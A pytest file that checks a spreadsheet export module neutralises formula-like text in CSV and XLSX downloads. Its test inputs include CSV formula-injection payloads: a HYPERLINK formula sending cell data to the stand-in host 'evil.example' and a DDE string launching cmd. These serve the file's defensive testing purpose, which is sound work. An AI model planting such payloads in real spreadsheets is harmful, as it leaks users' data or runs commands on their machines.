"""Spreadsheet downloads carry no live formula: text that starts like one is neutralised in CSV (leading ')
and written as a string cell in XLSX."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from shared.spreadsheet import csv_bytes, neutralised, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_reads_as_a_formula_gets_a_leading_quote(text: str) -> None:
    body = csv_bytes([["Product", "Revenue"], [text, Decimal("12.50")]])

    rows = list(csv.reader(io.StringIO(body.decode())))

    assert rows[1] == ["'" + text, "12.50"]


def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
    rows = [["INV-0001", "Widget = bracket", Decimal("-60.00"), 3, None]]

    assert list(csv.reader(io.StringIO(csv_bytes(rows).decode()))) == [
        ["INV-0001", "Widget = bracket", "-60.00", "3", ""]
    ]
    assert neutralised(Decimal("-1")) == Decimal("-1")


def test_xlsx_writes_formula_like_text_as_string_cells_with_its_exact_text() -> None:
    body = xlsx_bytes([["Product", "Revenue"], *([text, Decimal("1.5")] for text in HOSTILE)], "Margins")

    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; the text is otherwise exact
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in HOSTILE]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet.title == "Margins" and sheet.cell(2, 2).value == 1.5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_margins_export_neutralises_product_names_and_invoice_numbers(
    monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    from types import SimpleNamespace

    from shared.bodies import MarginQuery
    from shared.services import margins

    monkeypatch.setattr(margins, "margins", lambda organisation, query: SimpleNamespace(home_currency="AUD"))
    rows = [["Document", "Product", "Revenue"], ["=1+1", '@HYPERLINK("http://evil.example")', Decimal(5)]]
    monkeypatch.setattr(margins, "export_rows", lambda report: rows)

    body = margins.export_margins("org-a", MarginQuery(group="document"), fmt).body  # type: ignore[arg-type]

    if fmt == "csv":
        assert list(csv.reader(io.StringIO(body.decode())))[1][:2] == [
            "'=1+1",
            '\'@HYPERLINK("http://evil.example")',
        ]
    else:
        sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml
